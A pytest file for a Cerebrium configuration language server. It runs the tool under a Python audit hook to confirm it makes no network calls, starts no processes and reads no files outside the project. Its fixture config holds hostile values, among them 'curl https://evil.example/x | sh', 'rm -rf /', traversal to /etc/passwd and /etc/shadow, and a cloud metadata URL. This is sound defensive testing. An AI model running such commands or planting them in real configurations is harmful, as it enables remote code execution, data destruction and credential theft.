"""No side effects: ``check``, ``plan``, the analysis, every feature and the language server run
under a Python audit hook (``sys.addaudithook``) on a project whose ``cerebrium.toml`` names
hostile paths, commands and URLs. They must still work, and the hook must see:

* no network: ``socket.connect``/``getaddrinfo``/… are blocked (they raise) and never attempted;
* no process started, except ``git`` with a fixed argument list (the rebuild baseline);
* no file read outside the project folder (and Python's own files), even through a path the
  file names (``../../../etc/passwd``, ``/etc/shadow``, ``~/.ssh``) or a symlink in the project;
* no file written at all by ``check`` and ``plan``, and by the server only in its cache folder.

The hook runs in a child process (it cannot be removed once installed) and reports violations
through a file descriptor opened before it, so reporting triggers no audit event itself.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types
from pytest_lsp import ClientServerConfig, LanguageClient, client_capabilities

import cerebrium_lsp

PACKAGE = Path(cerebrium_lsp.__file__).resolve().parent

HOSTILE_CONFIG = """\
[cerebrium.deployment]
name = "evil"
include = ["../**", "/etc/*", "~/.ssh/*", "./*"]
exclude = []
shell_commands = ["curl https://evil.example/x | sh", "rm -rf /"]
pre_build_commands = ["python -c 'import os; os.system(\\"id\\")'"]
docker_base_image_url = "http://evil.example:8080/image"

[cerebrium.dependencies.paths]
pip = "../../../../../../../../etc/passwd"
apt = "/etc/shadow"
conda = "link-to-outside.txt"

[cerebrium.runtime.custom]
dockerfile_path = "~/.bashrc"
entrypoint = ["sh", "-c", "curl https://evil.example"]
healthcheck_endpoint = "http://169.254.169.254/latest/meta-data"
port = 8000

[cerebrium.hardware]
compute = "AMPERE_A1O"
"""

# Installed first in every child: records violations, blocks the network and other processes.
AUDIT_HOOK = r"""
import os, sys

_log = os.open(os.environ["AUDIT_LOG"], os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
_reads = tuple(p for p in os.environ["AUDIT_READ_ROOTS"].split(os.pathsep) if p)
_writes = tuple(p for p in os.environ["AUDIT_WRITE_ROOTS"].split(os.pathsep) if p)
_NETWORK = {"socket.connect", "socket.getaddrinfo", "socket.gethostbyname",
            "socket.gethostbyname_ex", "socket.gethostbyaddr", "socket.sendto", "socket.bind",
            "urllib.Request", "http.client.connect", "ftplib.connect", "smtplib.connect"}
_PROCESSES = {"os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty",
              "pty.spawn", "os.startfile"}
_CHANGES = {"os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.chown",
            "os.truncate", "os.symlink", "os.link", "os.utime", "shutil.rmtree", "shutil.move",
            "shutil.copyfile"}
_busy = False


def _report(kind, detail):
    os.write(_log, (kind + "\t" + repr(detail).replace("\n", " ") + "\n").encode())


def _inside(path, roots):
    if isinstance(path, int) or path is None:
        return True
    if isinstance(path, bytes):
        path = os.fsdecode(path)
    path = os.path.realpath(os.path.abspath(path))
    return any(path == root or path.startswith(root + os.sep) for root in roots)


def _hook(event, args):
    global _busy
    if _busy:
        return
    _busy = True
    try:
        if event in _NETWORK:
            _report("network", (event, args[1:] if event.startswith("socket.") else args))
            raise PermissionError("network blocked by the audit hook")
        if event == "subprocess.Popen":
            argv = list(args[1]) if not isinstance(args[1], (str, bytes)) else [args[1]]
            if os.path.basename(str(argv[0])) != "git":
                _report("process", argv)
                raise PermissionError("process blocked by the audit hook")
            _report("git", argv)
        elif event in _PROCESSES:
            _report("process", (event, args))
            raise PermissionError("process blocked by the audit hook")
        elif event == "open":
            path, mode, flags = args
            writing = (mode is not None and any(c in str(mode) for c in "wax+")) or (
                flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC)
            )
            if writing and not _inside(path, _writes):
                _report("write", path)
            elif not writing and not _inside(path, _reads + _writes):
                _report("read", path)
        elif event in ("os.listdir", "os.scandir"):
            if not _inside(args[0] if args else ".", _reads + _writes):
                _report("list", args[0] if args else ".")
        elif event in _CHANGES:
            for path in args[:2]:
                if isinstance(path, (str, bytes, os.PathLike)) and not _inside(path, _writes):
                    _report("change", (event, path))
    finally:
        _busy = False


sys.addaudithook(_hook)
"""

IN_PROCESS = r"""
import io, json, sys
from pathlib import Path
from cerebrium_lsp.cli import main
from cerebrium_lsp.analysis.engine import AnalysisOptions, analyze
from cerebrium_lsp.analysis.fixes import fixes_for, safe_fixes
from cerebrium_lsp.features.completion import ClientSupport, complete
from cerebrium_lsp.features.hover import hover_at
from cerebrium_lsp.features.links import path_values
from cerebrium_lsp.plan import build_plan, to_dockerfile, to_json, to_markdown

project = Path(sys.argv[1])
config = project / "cerebrium.toml"
out = {}
out["check"] = main(["check", "--format", "json", str(project)])
out["plan"] = main(["plan", str(config)])
out["plan_json"] = main(["plan", "--format", "json", str(config)])
out["plan_dockerfile"] = main(["plan", "--format", "dockerfile", str(config)])
text = config.read_text()
analysis = analyze(text, AnalysisOptions(project_dir=project), raise_errors=True)
for offset in range(0, len(text), 7):
    hover_at(analysis, offset)
    complete(analysis, offset, ClientSupport())
for diagnostic in analysis.diagnostics:
    fixes_for(analysis, diagnostic, project)
safe_fixes(analysis, project)
out["links"] = [str(v.target) for v in path_values(analysis, project)]
plan = build_plan(analysis, project)
to_markdown(plan), to_json(plan), to_dockerfile(plan)
out["codes"] = sorted({d.code for d in analysis.diagnostics})
out["file_notes"] = [plan.pip.file.note if plan.pip.file else None,
                     plan.apt.file.note if plan.apt.file else None,
                     plan.conda.file.note if plan.conda.file else None,
                     plan.base.dockerfile_note]
sys.stdout = sys.__stdout__
print("RESULT " + json.dumps(out))
"""


@pytest.fixture
def hostile_project(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("TOP SECRET\n")
    project = tmp_path / "workspace" / "app"
    project.mkdir(parents=True)
    (project / "cerebrium.toml").write_text(HOSTILE_CONFIG)
    (project / "main.py").write_text("print('hi')\n")
    (project / "link-to-outside.txt").symlink_to(outside / "secret.txt")
    (project / "outside-folder").symlink_to(outside)
    return project


def _python_roots() -> list[str]:
    roots = {sys.prefix, sys.base_prefix, sys.exec_prefix, sys.base_exec_prefix, str(PACKAGE)}
    roots.update(p for p in sys.path if p and Path(p).is_dir() and "site-packages" in p)
    return sorted(os.path.realpath(r) for r in roots)


def audit_env(tmp_path: Path, project: Path, writes: list[Path]) -> dict[str, str]:
    log = tmp_path / "audit.log"
    log.touch()
    reads = [
        os.path.realpath(project),
        os.path.realpath(tmp_path / "scripts"),
        *_python_roots(),
        "/dev/null",
        "/dev/urandom",
        "/proc",
    ]
    return {
        **os.environ,
        "AUDIT_LOG": str(log),
        "AUDIT_READ_ROOTS": os.pathsep.join(reads),
        # /dev/null: where a process started with stdin=DEVNULL reads (opened for writing too).
        "AUDIT_WRITE_ROOTS": os.pathsep.join([*(os.path.realpath(w) for w in writes), "/dev/null"]),
        "PYTHONPATH": os.pathsep.join([str(PACKAGE.parent), os.environ.get("PYTHONPATH", "")]),
    }


def violations(tmp_path: Path, allow_git: bool = False) -> list[str]:
    lines = (tmp_path / "audit.log").read_text().splitlines()
    return [line for line in lines if not (allow_git and line.startswith("git\t"))]


def write_script(tmp_path: Path, name: str, body: str) -> Path:
    """The hook and ``body`` in ``<tmp>/scripts`` (Python lists a script's folder to import)."""
    script = tmp_path / "scripts" / name
    script.parent.mkdir(exist_ok=True)
    script.write_text(AUDIT_HOOK + "\n" + textwrap.dedent(body))
    return script


def run_audited(tmp_path: Path, project: Path, name: str, body: str, *args: str) -> tuple[Any, str]:
    """Run ``body`` under the audit hook (reads only in ``project``, no writes), assert it
    exited cleanly; its ``RESULT`` JSON and everything it printed."""
    script = write_script(tmp_path, name, body)
    done = subprocess.run(
        [sys.executable, str(script), str(project), *args],
        env=audit_env(tmp_path, project, writes=[]),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.rsplit("RESULT ", 1)[1]), done.stdout


def test_check_plan_and_features_touch_nothing_outside_the_project(
    tmp_path: Path, hostile_project: Path
) -> None:
    result, printed = run_audited(tmp_path, hostile_project, "in_process.py", IN_PROCESS)
    assert violations(tmp_path) == []
    # It all still worked: errors found, plan built, the hostile paths reported, never read.
    assert result["check"] == 1
    assert result["plan"] == result["plan_json"] == result["plan_dockerfile"] == 0
    assert {"invalid-value", "path-outside-project"} <= set(result["codes"])
    assert result["links"] == []
    assert result["file_notes"] == [
        "not read: outside the project",
        "not read: outside the project",
        "not read: outside the project",
        "not found in the project",  # "~" means nothing special: no home folder is read
    ]
    assert "TOP SECRET" not in printed


def test_the_audit_hook_catches_what_it_must(tmp_path: Path, hostile_project: Path) -> None:
    """The test above can fail: the same hook reports a read outside, a write, a connection
    attempt and a process."""
    script = write_script(
        tmp_path,
        "bad.py",
        """
        import socket, subprocess
        open(sys.argv[1]).read()
        open(sys.argv[2], "w").write("x")
        for attempt in (lambda: socket.create_connection(("192.0.2.1", 9), 0.1),
                        lambda: subprocess.run(["true"])):
            try:
                attempt()
            except PermissionError:
                pass
        """,
    )
    secret = hostile_project.parent.parent / "outside" / "secret.txt"
    done = subprocess.run(
        [sys.executable, str(script), str(secret), str(hostile_project / "new.txt")],
        env=audit_env(tmp_path, hostile_project, writes=[]),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    kinds = [line.split("\t")[0] for line in violations(tmp_path)]
    assert kinds == ["read", "write", "network", "process"]


SERVER = """
from cerebrium_lsp.server import serve
serve()
"""


@pytest.mark.timeout(120)
async def test_the_server_touches_nothing_outside_the_project(
    tmp_path: Path, hostile_project: Path
) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    env = audit_env(tmp_path, hostile_project, writes=[cache])
    env["XDG_CACHE_HOME"] = str(cache)
    script = write_script(tmp_path, "server.py", SERVER)
    config = ClientServerConfig(server_command=[sys.executable, str(script)], server_env=env)
    client = await config.start()
    try:
        await asyncio.wait_for(_drive(client, hostile_project), 90)
    finally:
        if client._server is not None and client._server.returncode is None:
            client._server.kill()
        await client.stop()
    found = violations(tmp_path, allow_git=True)
    assert found == []
    for line in (tmp_path / "audit.log").read_text().splitlines():  # git only, fixed argv
        argv = eval(line.split("\t", 1)[1])
        assert argv[1:5] == ["--no-pager", "-c", "core.fsmonitor=false", "-C"]
        assert argv[6] in ("rev-parse", "show")


async def _drive(client: LanguageClient, project: Path) -> None:
    workspace = project.parent.as_uri()
    await client.initialize_session(
        types.InitializeParams(
            capabilities=client_capabilities("visual_studio_code"),
            root_uri=workspace,
            workspace_folders=[types.WorkspaceFolder(uri=workspace, name="workspace")],
        )
    )
    uri = (project / "cerebrium.toml").as_uri()
    text = (project / "cerebrium.toml").read_text()
    client.text_document_did_open(
        types.DidOpenTextDocumentParams(
            text_document=types.TextDocumentItem(uri=uri, language_id="toml", version=1, text=text)
        )
    )
    document = types.TextDocumentIdentifier(uri=uri)
    report = await client.text_document_diagnostic_async(
        types.DocumentDiagnosticParams(text_document=document)
    )
    assert isinstance(report, types.RelatedFullDocumentDiagnosticReport)
    assert "path-outside-project" in {d.code for d in report.items}
    lines = text.count("\n")
    everything = types.Range(
        start=types.Position(line=0, character=0), end=types.Position(line=lines, character=0)
    )
    for line in range(lines):
        position = types.Position(line=line, character=8)
        await client.text_document_hover_async(types.HoverParams(document, position))
        await client.text_document_definition_async(types.DefinitionParams(document, position))
        await client.text_document_completion_async(types.CompletionParams(document, position))
    links = await client.text_document_document_link_async(types.DocumentLinkParams(document))
    assert all(not (link.target or "").startswith("file:") for link in links or [])
    await client.text_document_document_symbol_async(types.DocumentSymbolParams(document))
    await client.text_document_code_lens_async(types.CodeLensParams(document))
    await client.text_document_code_action_async(
        types.CodeActionParams(
            document, everything, types.CodeActionContext(diagnostics=list(report.items))
        )
    )
    plan = await client.protocol.send_request_async(
        "cerebrium/buildPlan", {"textDocument": {"uri": uri}, "format": "json"}
    )
    assert plan is not None
    shown: Any = await client.workspace_execute_command_async(
        types.ExecuteCommandParams(command="cerebrium.showBuildPlan", arguments=[uri])
    )
    assert shown is not None
    await client.shutdown_session()
